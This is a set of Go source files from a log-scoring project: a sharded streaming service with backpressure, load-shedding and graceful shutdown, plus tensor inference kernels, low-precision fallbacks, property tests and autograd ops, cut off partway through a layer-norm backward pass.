			return nil, ctx.Err()
		}
	}

	parts, pos := partitionEvents(events, n)
	involved := make([]*svcShard, 0, n)
	for sh := 0; sh < n; sh++ {
		if len(parts[sh]) > 0 {
			involved = append(involved, s.shards[sh])
		}
	}
	if err := s.admit(involved); err != nil {
		return nil, err
	}
	type pendingReq struct {
		shard int
		reply chan result
	}
	pending := make([]pendingReq, 0, n)
	var sendErr error
	for sh := 0; sh < n && sendErr == nil; sh++ {
		if len(parts[sh]) == 0 {
			continue
		}
		req := request{events: parts[sh], reply: make(chan result, 1)}
		if sendErr = s.send(ctx, s.shards[sh], req); sendErr != nil {
			break
		}
		pending = append(pending, pendingReq{shard: sh, reply: req.reply})
	}

	out := make([]Verdict, len(events))
	var errs []error
	if sendErr != nil {
		errs = append(errs, sendErr)
	}
	for _, p := range pending {
		var res result
		select {
		case res = <-p.reply:
		case <-ctx.Done():
			// Accepted shards keep processing; stop waiting for them.
			errs = append(errs, ctx.Err())
			return nil, errors.Join(errs...)
		}
		if res.err != nil {
			errs = append(errs, fmt.Errorf("shard %d: %w", p.shard, res.err))
			continue
		}
		scatter(out, pos[p.shard], res.verdicts)
	}
	if len(errs) > 0 {
		return nil, errors.Join(errs...)
	}
	return out, nil
}

// admit is the shed policy's pre-check: reject before enqueueing anything
// if any involved shard is already full, so a shed almost never leaves a
// partial ingest behind. No-op under other policies.
func (s *Service) admit(involved []*svcShard) error {
	if s.cfg.Overload != OverloadShed {
		return nil
	}
	for _, sh := range involved {
		if len(sh.queue) >= cap(sh.queue) {
			s.shed.Add(1)
			return ErrOverloaded
		}
	}
	return nil
}

// send enqueues one request on one shard under the configured policy.
func (s *Service) send(ctx context.Context, sh *svcShard, req request) error {
	if s.cfg.Overload == OverloadShed {
		select {
		case sh.queue <- req:
			return nil
		default:
			s.shed.Add(1)
			return ErrOverloaded
		}
	}
	select {
	case sh.queue <- req:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	case <-s.closing:
		return ErrClosed
	}
}

// Close stops intake, drains every accepted request on every shard through
// its detector, and waits for the shard workers and the overload monitor
// to exit. Producers blocked on a full queue unblock with ErrClosed; every
// request accepted before Close began still gets its reply. Safe to call
// more than once.
func (s *Service) Close() {
	s.mu.Lock()
	already := s.closed
	s.closed = true
	s.mu.Unlock()
	if !already {
		close(s.closing)
		// No new Submit passes admission now; once the admitted ones finish
		// sending (or bail via closing), no sender can exist — closing the
		// queues is safe, and workers drain them to empty before exiting.
		s.inflight.Wait()
		for _, sh := range s.shards {
			close(sh.queue)
		}
	}
	<-s.monitorDone
	for _, sh := range s.shards {
		<-sh.done
	}
}

// Stats snapshots detector counters plus queue, overload, and degradation
// state, aggregated across shards, with the per-shard breakdown attached.
func (s *Service) Stats() ServiceStats {
	st := ServiceStats{
		Stats:          s.sd.Stats(),
		Config:         s.sd.Config(),
		OverloadPolicy: s.cfg.Overload.String(),
		ShedRequests:   s.shed.Load(),
		Shards:         make([]ShardServiceStats, len(s.shards)),
	}
	for i, sh := range s.shards {
		ss := ShardServiceStats{
			Shard:         i,
			Stats:         sh.det.Stats(),
			QueueDepth:    len(sh.queue),
			QueueCapacity: s.cfg.QueueRequests,
		}
		sc := sh.det.scorerRef()
		if cs, ok := sc.(tuning.CacheStatser); ok {
			c := cs.CacheStats()
			ss.Cache = &c
			ss.CacheHitRate = c.HitRate()
		}
		if p, ok := tuning.ScorerPrecision(sc); ok {
			if p == "" {
				p = model.PrecisionFloat64
			}
			ss.Precision = string(p)
		}
		if dg := s.deg[i]; dg != nil {
			rung, _, downs, ups := dg.info()
			ss.Degraded = rung > 0
			ss.Downshifts, ss.Upshifts = downs, ups
			if ss.Degraded {
				st.DegradedShards++
			}
		}
		st.QueueDepth += ss.QueueDepth
		st.QueueCapacity += ss.QueueCapacity
		st.Shards[i] = ss
	}
	return st
}

// SwapScorer hot-reloads the service's scorer across every shard without
// stopping intake: queued requests keep queueing, in-flight batches finish
// on the old scorer, and every batch after the swap scores on the new one
// (ShardedDetector.SwapScorer semantics — atomic between batches, nothing
// dropped, no mixed batch). Holding degMu across the swap and the rebind
// keeps the overload monitor from installing a precision variant of the
// outgoing scorer after the new one lands; the new artifact starts at its
// native rung.
func (s *Service) SwapScorer(sc tuning.Scorer, version string) error {
	s.degMu.Lock()
	defer s.degMu.Unlock()
	if err := s.sd.SwapScorer(sc, version); err != nil {
		return err
	}
	s.initDegrade()
	return nil
}

// ScorerVersion returns the active scorer artifact version.
func (s *Service) ScorerVersion() string { return s.sd.ScorerVersion() }

// SetModality stamps the served log modality on every shard (surfaced in
// Stats; reloads cannot change it because mismatched bundles are rejected).
func (s *Service) SetModality(m string) { s.sd.SetModality(m) }

// Modality returns the stamped log modality.
func (s *Service) Modality() string { return s.sd.Modality() }

// Sharded exposes the wrapped sharded detector.
func (s *Service) Sharded() *ShardedDetector { return s.sd }

// Detector exposes shard 0's detector — the whole detector for a
// single-shard service. Sweeps and stats should prefer EvictIdle,
// HighWater, and Stats, which fan out across every shard.
func (s *Service) Detector() *Detector { return s.sd.Shard(0) }

// EvictIdle fans the idle-session sweep out across every shard and
// returns the total evicted.
func (s *Service) EvictIdle(now int64) int { return s.sd.EvictIdle(now) }

// HighWater returns the latest event time seen across all shards.
func (s *Service) HighWater() int64 { return s.sd.HighWater() }

// SaveSessions checkpoints the underlying detector's sessions; see
// ShardedDetector.SaveSessions.
func (s *Service) SaveSessions(w io.Writer) error { return s.sd.SaveSessions(w) }

// RestoreSessions restores a checkpoint into the underlying detector; see
// ShardedDetector.RestoreSessions. Meant for startup, before traffic.
func (s *Service) RestoreSessions(r io.Reader) error { return s.sd.RestoreSessions(r) }

// ExportSessions writes the named users' windows (everyone when users is
// nil) as a checkpoint stream; see ShardedDetector.ExportSessions. Safe
// during live serving — the fleet drain/handoff path.
func (s *Service) ExportSessions(w io.Writer, users []string) error {
	return s.sd.ExportSessions(w, users)
}

// ImportSessions merges a checkpoint's user windows into the live
// detector, replacing only the carried users; see
// ShardedDetector.ImportSessions. Safe during live serving — the fleet
// failover path.
func (s *Service) ImportSessions(r io.Reader) (int, error) {
	return s.sd.ImportSessions(r)
}

// Config returns the resolved session configuration the service runs
// (surfaced in Stats so a fleet router can verify every replica agrees
// before trusting cross-replica session handoffs).
func (s *Service) Config() Config { return s.sd.Config() }

// CloseTimeout is Close bounded by a deadline: it drains like Close but
// gives up waiting after d, returning false — the wedged-shard case, where
// a stuck scorer would otherwise hang shutdown forever. The drain keeps
// running in the background (workers still answer whatever they can); the
// caller proceeds to final checkpointing with whatever committed. d <= 0
// waits indefinitely (plain Close semantics, returns true).
func (s *Service) CloseTimeout(d time.Duration) bool {
	if d <= 0 {
		s.Close()
		return true
	}
	done := make(chan struct{})
	go func() {
		s.Close()
		close(done)
	}()
	select {
	case <-done:
		return true
	case <-time.After(d):
		return false
	}
}

// worker drains one shard's queue until it is closed and empty, coalescing
// requests up to BatchEvents per scoring call.
func (s *Service) worker(sh *svcShard) {
	defer close(sh.done)
	for req := range sh.queue {
		batch := []request{req}
		total := len(req.events)
	coalesce:
		for total < s.cfg.BatchEvents {
			select {
			case more, ok := <-sh.queue:
				if !ok {
					break coalesce
				}
				batch = append(batch, more)
				total += len(more.events)
			default:
				break coalesce
			}
		}
		events := make([]Event, 0, total)
		for _, r := range batch {
			events = append(events, r.events...)
		}
		verdicts, err := sh.det.Process(events)
		at := 0
		for _, r := range batch {
			if err != nil {
				r.reply <- result{err: fmt.Errorf("stream: batch of %d events: %w", total, err)}
				continue
			}
			r.reply <- result{verdicts: verdicts[at : at+len(r.events)]}
			at += len(r.events)
		}
	}
}
