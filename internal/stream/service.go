package stream

import (
	"errors"
	"fmt"
	"sync"
)

// ErrClosed is returned by Submit after Close has begun.
var ErrClosed = errors.New("stream: service closed")

// ServiceConfig sizes the asynchronous front. The zero value selects
// defaults.
type ServiceConfig struct {
	// QueueRequests bounds the request queue; a full queue blocks Submit
	// (backpressure to the producer). Default 64.
	QueueRequests int
	// BatchEvents caps how many events the worker coalesces from queued
	// requests into one Detector.Process call. Default 512.
	BatchEvents int
}

func (c ServiceConfig) withDefaults() ServiceConfig {
	if c.QueueRequests <= 0 {
		c.QueueRequests = 64
	}
	if c.BatchEvents <= 0 {
		c.BatchEvents = 512
	}
	return c
}

// ServiceStats extends detector counters with queue state.
type ServiceStats struct {
	Stats
	// QueueDepth is the number of requests waiting at snapshot time.
	QueueDepth int `json:"queue_depth"`
	// QueueCapacity is the configured bound.
	QueueCapacity int `json:"queue_capacity"`
}

type request struct {
	events []Event
	reply  chan result
}

type result struct {
	verdicts []Verdict
	err      error
}

// Service runs a Detector behind a bounded queue: producers Submit event
// slices and block while the queue is full (backpressure), a single worker
// coalesces adjacent requests into full scoring batches (one
// Detector.Process per batch, so the engine sees large deduplicated
// requests even when producers send line by line), and Close drains every
// accepted request before returning.
//
// One worker is deliberate: per-user event order must survive queuing, and
// scoring parallelism already lives inside the engine-backed scorer.
type Service struct {
	det   *Detector
	cfg   ServiceConfig
	queue chan request
	done  chan struct{}

	mu     sync.RWMutex
	closed bool
}

// NewService starts the worker over det.
func NewService(det *Detector, cfg ServiceConfig) *Service {
	s := &Service{
		det:  det,
		cfg:  cfg.withDefaults(),
		done: make(chan struct{}),
	}
	s.queue = make(chan request, s.cfg.QueueRequests)
	go s.worker()
	return s
}

// Submit enqueues events and waits for their verdicts, one per event in
// order. It blocks while the queue is full; after Close it returns
// ErrClosed.
func (s *Service) Submit(events []Event) ([]Verdict, error) {
	if len(events) == 0 {
		return nil, nil
	}
	req := request{events: events, reply: make(chan result, 1)}
	// The read lock spans the send: Close flips closed under the write
	// lock, so no Submit can be sending when the channel closes.
	s.mu.RLock()
	if s.closed {
		s.mu.RUnlock()
		return nil, ErrClosed
	}
	s.queue <- req
	s.mu.RUnlock()
	res := <-req.reply
	return res.verdicts, res.err
}

// Close stops intake, drains every queued request through the detector,
// and waits for the worker to exit. Safe to call more than once.
func (s *Service) Close() {
	s.mu.Lock()
	already := s.closed
	s.closed = true
	s.mu.Unlock()
	if !already {
		close(s.queue)
	}
	<-s.done
}

// Stats snapshots detector counters plus queue state.
func (s *Service) Stats() ServiceStats {
	return ServiceStats{
		Stats:         s.det.Stats(),
		QueueDepth:    len(s.queue),
		QueueCapacity: s.cfg.QueueRequests,
	}
}

// Detector exposes the wrapped detector (e.g. for EvictIdle sweeps).
func (s *Service) Detector() *Detector { return s.det }

// worker drains the queue until it is closed and empty, coalescing
// requests up to BatchEvents per scoring call.
func (s *Service) worker() {
	defer close(s.done)
	for req := range s.queue {
		batch := []request{req}
		total := len(req.events)
	coalesce:
		for total < s.cfg.BatchEvents {
			select {
			case more, ok := <-s.queue:
				if !ok {
					break coalesce
				}
				batch = append(batch, more)
				total += len(more.events)
			default:
				break coalesce
			}
		}
		events := make([]Event, 0, total)
		for _, r := range batch {
			events = append(events, r.events...)
		}
		verdicts, err := s.det.Process(events)
		at := 0
		for _, r := range batch {
			if err != nil {
				r.reply <- result{err: fmt.Errorf("stream: batch of %d events: %w", total, err)}
				continue
			}
			r.reply <- result{verdicts: verdicts[at : at+len(r.events)]}
			at += len(r.events)
		}
	}
}
