//go:build !amd64

package tensor

// Non-amd64 builds run the low-precision kernels through the pure-Go
// fallbacks; the precision ladder still works, it just climbs slower.

func f32MatVec(a, b, out []float32)                 { f32MatVecGo(a, b, out) }
func int8MatVec(qa []int16, wt []int8, acc []int32) { int8MatVecGo(qa, wt, acc) }
func expShiftInPlace(v []float32, shift float32)    { expShiftGo(v, shift) }
func geluInPlace(v []float32)                       { geluGo(v) }

func maxAbs32(v []float32) float32 { return maxAbs32Tail(v, 0) }

func quantRow32(x []float32, inv float32, qa []int16) { quantRow32Tail(x, inv, qa) }

func dequantRow32(acc []int32, scales []float32, rowScale float32, bias, out []float32) {
	dequantRow32Tail(acc, scales, rowScale, bias, out)
}
