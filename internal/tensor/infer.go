package tensor

import (
	"fmt"
	"math"
)

// Forward-only inference kernels.
//
// The autograd ops in ops.go/ops_nn.go allocate a fresh value matrix (and
// often saved intermediates) per call and record a backward closure on the
// tape — pure overhead when only the value is wanted. The Infer* kernels
// below compute the identical forward arithmetic, in the identical
// floating-point order, but write into caller-owned buffers and record
// nothing, so a scoring loop that reuses its buffers runs allocation-free.
// They are single-threaded on purpose: at inference time parallelism lives
// one level up, across batches (see internal/tuning's engine), which avoids
// oversubscribing cores with nested goroutine fan-out.

// InferMatMulInto computes out = a·b serially with the tiled kernel,
// overwriting out. Results are bitwise identical to MatMulInto.
func InferMatMulInto(a, b, out *Matrix) {
	if a.Cols != b.Rows || out.Rows != a.Rows || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: InferMatMul shapes %dx%d · %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	out.Zero()
	matMulRows(a, b, out, 0, a.Rows)
}

// InferLinearInto computes out = x·w + bias (bias broadcast over rows; may
// be nil for no bias), matching Linear.Forward's value bitwise: the matmul
// accumulates first, the bias is added after.
func InferLinearInto(x, w, bias, out *Matrix) {
	InferMatMulInto(x, w, out)
	if bias == nil {
		return
	}
	if bias.Rows != 1 || bias.Cols != out.Cols {
		panic(fmt.Sprintf("tensor: InferLinear bias %dx%d for %d-wide output",
			bias.Rows, bias.Cols, out.Cols))
	}
	for i := 0; i < out.Rows; i++ {
		row := out.Row(i)
		for j, bv := range bias.Data {
			row[j] += bv
		}
	}
}

// InferLayerNormInto normalizes each row of x and applies the learned
// scale gamma and shift beta (both 1×n), writing into out. out may alias x
// (in-place normalization). Arithmetic matches the LayerNorm op.
func InferLayerNormInto(x, gamma, beta *Matrix, eps float64, out *Matrix) {
	n := x.Cols
	if gamma.Rows != 1 || gamma.Cols != n || beta.Rows != 1 || beta.Cols != n {
		panic(fmt.Sprintf("tensor: InferLayerNorm params must be 1x%d", n))
	}
	if out.Rows != x.Rows || out.Cols != n {
		panic(fmt.Sprintf("tensor: InferLayerNorm out %dx%d for %dx%d input",
			out.Rows, out.Cols, x.Rows, n))
	}
	for i := 0; i < x.Rows; i++ {
		row := x.Row(i)
		mean := 0.0
		for _, v := range row {
			mean += v
		}
		mean /= float64(n)
		varr := 0.0
		for _, v := range row {
			d := v - mean
			varr += d * d
		}
		varr /= float64(n)
		is := 1 / math.Sqrt(varr+eps)
		dst := out.Row(i)
		for j, v := range row {
			dst[j] = (v-mean)*is*gamma.Data[j] + beta.Data[j]
		}
	}
}

// InferGELUInPlace applies the tanh-approximated GELU elementwise in place,
// matching the GELU op's forward arithmetic.
func InferGELUInPlace(x *Matrix) {
	for i, v := range x.Data {
		u := geluConst * (v + 0.044715*v*v*v)
		x.Data[i] = 0.5 * v * (1 + math.Tanh(u))
	}
}

// InferAttentionInto runs the fused multi-head scaled-dot-product attention
// forward pass (same layout contract as Attention: q/k/v are [sum(lens),
// hidden], sequences own consecutive rows, attention never crosses sequence
// boundaries) writing into out. scores is caller-owned scratch with
// capacity at least max(lens)²; post-softmax attention rows are built there
// head by head and never retained.
func InferAttentionInto(q, k, v *Matrix, heads int, lens []int, scores []float64, out *Matrix) {
	hidden := q.Cols
	if hidden%heads != 0 {
		panic(fmt.Sprintf("tensor: hidden %d not divisible by heads %d", hidden, heads))
	}
	if !q.SameShape(k) || !q.SameShape(v) || !q.SameShape(out) {
		panic("tensor: InferAttention q/k/v/out shape mismatch")
	}
	total, maxS := 0, 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: InferAttention sequence length must be positive")
		}
		total += l
		if l > maxS {
			maxS = l
		}
	}
	if total != q.Rows {
		panic(fmt.Sprintf("tensor: InferAttention lens sum %d != %d rows", total, q.Rows))
	}
	if len(scores) < maxS*maxS {
		panic(fmt.Sprintf("tensor: InferAttention scratch %d < %d", len(scores), maxS*maxS))
	}
	d := hidden / heads
	scale := 1 / math.Sqrt(float64(d))

	out.Zero()
	off := 0
	for _, S := range lens {
		for h := 0; h < heads; h++ {
			hOff := h * d
			A := scores[:S*S]
			for i := 0; i < S; i++ {
				qrow := q.Row(off + i)[hOff : hOff+d]
				srow := A[i*S : (i+1)*S]
				for j := 0; j < S; j++ {
					krow := k.Row(off + j)[hOff : hOff+d]
					dot := 0.0
					for c := 0; c < d; c++ {
						dot += qrow[c] * krow[c]
					}
					srow[j] = dot * scale
				}
				softmaxInto(srow, srow)
			}
			for i := 0; i < S; i++ {
				arow := A[i*S : (i+1)*S]
				orow := out.Row(off + i)[hOff : hOff+d]
				for j, a := range arow {
					if a == 0 {
						continue
					}
					vrow := v.Row(off + j)[hOff : hOff+d]
					for c := 0; c < d; c++ {
						orow[c] += a * vrow[c]
					}
				}
			}
		}
		off += S
	}
}

// InferMeanPoolInto average-pools token rows into one row per segment
// (segment s owns lens[s] consecutive rows of x), writing segment s to
// dst.Row(dstRow+s). Arithmetic matches the MeanPool op.
func InferMeanPoolInto(x *Matrix, lens []int, dst *Matrix, dstRow int) {
	total := 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: InferMeanPool segment length must be positive")
		}
		total += l
	}
	if total != x.Rows {
		panic(fmt.Sprintf("tensor: InferMeanPool lens sum %d != %d rows", total, x.Rows))
	}
	if dst.Cols != x.Cols || dstRow < 0 || dstRow+len(lens) > dst.Rows {
		panic(fmt.Sprintf("tensor: InferMeanPool dst %dx%d cannot hold %d segments at row %d",
			dst.Rows, dst.Cols, len(lens), dstRow))
	}
	off := 0
	for s, l := range lens {
		out := dst.Row(dstRow + s)
		for j := range out {
			out[j] = 0
		}
		for r := off; r < off+l; r++ {
			src := x.Row(r)
			for j, v := range src {
				out[j] += v
			}
		}
		inv := 1 / float64(l)
		for j := range out {
			out[j] *= inv
		}
		off += l
	}
}
