package tensor

import (
	"math"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

// TestQuickSoftmaxRowsIsDistribution: every output row is a probability
// distribution, and adding a constant to a row leaves it unchanged
// (shift invariance).
func TestQuickSoftmaxRowsIsDistribution(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 100,
		Values: func(values []reflect.Value, r *rand.Rand) {
			m := randMatrix(r, 1+r.Intn(5), 1+r.Intn(8))
			values[0] = reflect.ValueOf(m)
			values[1] = reflect.ValueOf(r.NormFloat64() * 10)
		},
	}
	prop := func(m *Matrix, shift float64) bool {
		y := SoftmaxRows(Const(m))
		for i := 0; i < y.Rows(); i++ {
			sum := 0.0
			for _, v := range y.Val.Row(i) {
				if v < 0 || v > 1 {
					return false
				}
				sum += v
			}
			if math.Abs(sum-1) > 1e-9 {
				return false
			}
		}
		shifted := m.Clone()
		for i := range shifted.Data {
			shifted.Data[i] += shift
		}
		y2 := SoftmaxRows(Const(shifted))
		for i := range y.Val.Data {
			if math.Abs(y.Val.Data[i]-y2.Val.Data[i]) > 1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickLayerNormStats: with gamma=1 and beta=0 every output row has
// zero mean and unit variance (up to eps).
func TestQuickLayerNormStats(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 80,
		Values: func(values []reflect.Value, r *rand.Rand) {
			m := randMatrix(r, 1+r.Intn(5), 4+r.Intn(12))
			m.ScaleInPlace(5)
			values[0] = reflect.ValueOf(m)
		},
	}
	prop := func(m *Matrix) bool {
		n := m.Cols
		gamma := NewMatrix(1, n)
		gamma.Fill(1)
		beta := NewMatrix(1, n)
		y := LayerNorm(Const(m), Const(gamma), Const(beta), 1e-8)
		for i := 0; i < y.Rows(); i++ {
			mean, sq := 0.0, 0.0
			for _, v := range y.Val.Row(i) {
				mean += v
			}
			mean /= float64(n)
			for _, v := range y.Val.Row(i) {
				sq += (v - mean) * (v - mean)
			}
			sq /= float64(n)
			if math.Abs(mean) > 1e-8 || math.Abs(sq-1) > 1e-3 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickAttentionRowsConvex: with V rows forming a basis, attention
// outputs are convex combinations — each output row of a single-head
// attention over one sequence stays inside the convex hull of V's rows.
func TestQuickAttentionRowsConvex(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 50,
		Values: func(values []reflect.Value, r *rand.Rand) {
			s := 2 + r.Intn(5)
			values[0] = reflect.ValueOf(randMatrix(r, s, 4))
			values[1] = reflect.ValueOf(randMatrix(r, s, 4))
		},
	}
	prop := func(q, k *Matrix) bool {
		s := q.Rows
		// V = one-hot-ish rows scaled to 1: outputs must be in [0,1] and
		// rows must sum to ~1 per head block when V rows sum to 1.
		v := NewMatrix(s, 4)
		for i := 0; i < s; i++ {
			v.Set(i, i%4, 1)
		}
		out := Attention(Const(q), Const(k), Const(v), 1, []int{s})
		for i := 0; i < s; i++ {
			sum := 0.0
			for _, x := range out.Val.Row(i) {
				if x < -1e-9 || x > 1+1e-9 {
					return false
				}
				sum += x
			}
			if math.Abs(sum-1) > 1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

// TestQuickMeanPoolPreservesMean: pooling then averaging equals averaging
// all rows when all segments have equal length.
func TestQuickMeanPoolPreservesMean(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 60,
		Values: func(values []reflect.Value, r *rand.Rand) {
			segs := 1 + r.Intn(4)
			l := 1 + r.Intn(4)
			values[0] = reflect.ValueOf(randMatrix(r, segs*l, 3))
			values[1] = reflect.ValueOf(l)
		},
	}
	prop := func(m *Matrix, l int) bool {
		segs := m.Rows / l
		lens := make([]int, segs)
		for i := range lens {
			lens[i] = l
		}
		pooled := MeanPool(Const(m), lens)
		for j := 0; j < m.Cols; j++ {
			all := 0.0
			for i := 0; i < m.Rows; i++ {
				all += m.At(i, j)
			}
			all /= float64(m.Rows)
			pm := 0.0
			for i := 0; i < segs; i++ {
				pm += pooled.Val.At(i, j)
			}
			pm /= float64(segs)
			if math.Abs(all-pm) > 1e-9 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestCrossEntropyMatchesManual(t *testing.T) {
	logits := Var(FromSlice(2, 3, []float64{1, 2, 3, 0.5, 0.5, 0.5}))
	loss := CrossEntropy(logits, []int{2, 0}, -100)
	// Row 0: softmax(1,2,3)[2]; row 1: uniform 1/3.
	p0 := math.Exp(3) / (math.Exp(1) + math.Exp(2) + math.Exp(3))
	want := (-math.Log(p0) - math.Log(1.0/3)) / 2
	if math.Abs(loss.Item()-want) > 1e-12 {
		t.Fatalf("loss = %v, want %v", loss.Item(), want)
	}
}

func TestOpShapePanics(t *testing.T) {
	a := Const(NewMatrix(2, 3))
	b := Const(NewMatrix(3, 2))
	cases := map[string]func(){
		"add":     func() { Add(a, b) },
		"mul":     func() { Mul(a, b) },
		"div":     func() { Div(a, b) },
		"addrow":  func() { AddRowVec(a, Const(NewMatrix(1, 2))) },
		"gather":  func() { GatherRows(a, []int{5}) },
		"xent":    func() { CrossEntropy(a, []int{0}, -100) },
		"pool":    func() { MeanPool(a, []int{3}) },
		"attn":    func() { Attention(a, a, a, 2, []int{2}) }, // heads ∤ hidden
		"attnlen": func() { Attention(a, a, a, 3, []int{3}) }, // lens sum ≠ rows
	}
	for name, fn := range cases {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("%s: expected panic", name)
				}
			}()
			fn()
		}()
	}
}

func BenchmarkAttentionForward(b *testing.B) {
	r := rand.New(rand.NewSource(31))
	const seq, hidden = 48, 64
	q := Const(randMatrix(r, seq, hidden))
	k := Const(randMatrix(r, seq, hidden))
	v := Const(randMatrix(r, seq, hidden))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		Attention(q, k, v, 4, []int{seq})
	}
}
