package tensor

// Pure-Go reference implementations of the low-precision SIMD kernels.
// They are the portable fallback and the oracle the assembly is tested
// against (same contract; float comparisons associativity-tolerant,
// integer comparisons exact).

// f32MatVecGo accumulates out[j] += Σ_k a[k]·b[k·N+j], K = len(a),
// N = len(out), walking b row-major with four k-rows register-blocked —
// the scalar shape of the float64 matMulRows inner kernel.
func f32MatVecGo(a, b, out []float32) {
	n := len(out)
	k := 0
	for ; k+4 <= len(a); k += 4 {
		a0, a1, a2, a3 := a[k], a[k+1], a[k+2], a[k+3]
		b0 := b[k*n : (k+1)*n : (k+1)*n]
		b1 := b[(k+1)*n : (k+2)*n : (k+2)*n]
		b2 := b[(k+2)*n : (k+3)*n : (k+3)*n]
		b3 := b[(k+3)*n : (k+4)*n : (k+4)*n]
		for j := range out {
			s := out[j]
			s += a0 * b0[j]
			s += a1 * b1[j]
			s += a2 * b2[j]
			s += a3 * b3[j]
			out[j] = s
		}
	}
	for ; k < len(a); k++ {
		av := a[k]
		brow := b[k*n : (k+1)*n : (k+1)*n]
		for j, bv := range brow {
			out[j] += av * bv
		}
	}
}

// int8MatVecGo computes acc[j] = Σ_k qa[k]·wt(k,j) in int32 over the
// blocked channel-pair weight layout (see Int8Matrix): block jb holds
// channels jb·16..jb·16+15, 32 consecutive bytes carry one k-pair across
// the block's 16 channels, channel-major within the pair.
func int8MatVecGo(qa []int16, wt []int8, acc []int32) {
	kPad := len(qa)
	for jb := 0; jb < len(acc)/int8NPadAlign; jb++ {
		block := wt[jb*kPad*int8NPadAlign : (jb+1)*kPad*int8NPadAlign]
		arow := acc[jb*int8NPadAlign : (jb+1)*int8NPadAlign]
		for jl := range arow {
			var s int32
			off := jl * 2
			for k := 0; k < kPad; k += 2 {
				s += int32(qa[k])*int32(block[k*int8NPadAlign+off]) +
					int32(qa[k+1])*int32(block[k*int8NPadAlign+off+1])
			}
			arow[jl] = s
		}
	}
}

// maxAbs32Tail folds the remaining elements into a running max-abs.
func maxAbs32Tail(v []float32, m float32) float32 {
	for _, x := range v {
		if x < 0 {
			x = -x
		}
		if x > m {
			m = x
		}
	}
	return m
}

// quantRow32Tail is the scalar quantizer (round half away from zero).
func quantRow32Tail(x []float32, inv float32, qa []int16) {
	for i, v := range x {
		r := v * inv
		if r >= 0 {
			qa[i] = int16(r + 0.5)
		} else {
			qa[i] = int16(r - 0.5)
		}
	}
}

// dequantRow32Tail is the scalar dequantizer; bias may be nil.
func dequantRow32Tail(acc []int32, scales []float32, rowScale float32, bias, out []float32) {
	if bias != nil {
		for j := range out {
			out[j] = float32(acc[j])*rowScale*scales[j] + bias[j]
		}
		return
	}
	for j := range out {
		out[j] = float32(acc[j]) * rowScale * scales[j]
	}
}

// expShiftGo applies v[i] = fastExp32(v[i] - shift) in place.
func expShiftGo(v []float32, shift float32) {
	for i, x := range v {
		v[i] = fastExp32(x - shift)
	}
}

// geluGo applies the tanh-approximated GELU in place via fastTanh32.
func geluGo(x []float32) {
	c := float32(geluConst)
	for i, v := range x {
		u := c * (v + 0.044715*v*v*v)
		x[i] = 0.5 * v * (1 + fastTanh32(u))
	}
}
