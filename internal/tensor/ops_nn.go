package tensor

import (
	"fmt"
	"math"
)

// SoftmaxRows applies a numerically stable softmax to each row.
func SoftmaxRows(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i := 0; i < a.Val.Rows; i++ {
		softmaxInto(a.Val.Row(i), val.Row(i))
	}
	var out *Tensor
	out = newNode("softmax", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := 0; i < g.Rows; i++ {
			y := out.Val.Row(i)
			gy := out.Grad.Row(i)
			dot := 0.0
			for j := range y {
				dot += y[j] * gy[j]
			}
			row := g.Row(i)
			for j := range y {
				row[j] += y[j] * (gy[j] - dot)
			}
		}
	}, a)
	return out
}

// softmaxInto writes softmax(src) into dst (same length), max-shifted.
func softmaxInto(src, dst []float64) {
	maxv := math.Inf(-1)
	for _, v := range src {
		if v > maxv {
			maxv = v
		}
	}
	sum := 0.0
	for j, v := range src {
		e := math.Exp(v - maxv)
		dst[j] = e
		sum += e
	}
	inv := 1 / sum
	for j := range dst {
		dst[j] *= inv
	}
}

// LayerNorm normalizes each row of a to zero mean and unit variance, then
// applies the learned scale gamma and shift beta (both 1×n).
func LayerNorm(a, gamma, beta *Tensor, eps float64) *Tensor {
	n := a.Val.Cols
	if gamma.Val.Rows != 1 || gamma.Val.Cols != n || beta.Val.Rows != 1 || beta.Val.Cols != n {
		panic(fmt.Sprintf("tensor: LayerNorm params must be 1x%d", n))
	}
	val := NewMatrix(a.Val.Rows, n)
	xhat := NewMatrix(a.Val.Rows, n) // saved for backward
	invStd := make([]float64, a.Val.Rows)
	for i := 0; i < a.Val.Rows; i++ {
		row := a.Val.Row(i)
		mean := 0.0
		for _, v := range row {
			mean += v
		}
		mean /= float64(n)
		varr := 0.0
		for _, v := range row {
			d := v - mean
			varr += d * d
		}
		varr /= float64(n)
		is := 1 / math.Sqrt(varr+eps)
		invStd[i] = is
		xr := xhat.Row(i)
		vr := val.Row(i)
		for j, v := range row {
			h := (v - mean) * is
			xr[j] = h
			vr[j] = h*gamma.Val.Data[j] + beta.Val.Data[j]
		}
	}
	var out *Tensor
	out = newNode("layernorm", val, func() {
		for i := 0; i < out.Grad.Rows; i++ {
			gy := out.Grad.Row(i)
			xr := xhat.Row(i)
			if gamma.needGrad {
				gg := gamma.ensureGrad()
				for j := range gy {
					gg.Data[j] += gy[j] * xr[j]
				}
			}
			if beta.needGrad {
				gb := beta.ensureGrad()
				for j := range gy {
					gb.Data[j] += gy[j]
				}
			}
			if a.needGrad {
				// dx = (1/σ) * (dy*γ - mean(dy*γ) - x̂ * mean(dy*γ*x̂))
				m1, m2 := 0.0, 0.0
				for j := range gy {
					t := gy[j] * gamma.Val.Data[j]
					m1 += t
					m2 += t * xr[j]
				}
				m1 /= float64(n)
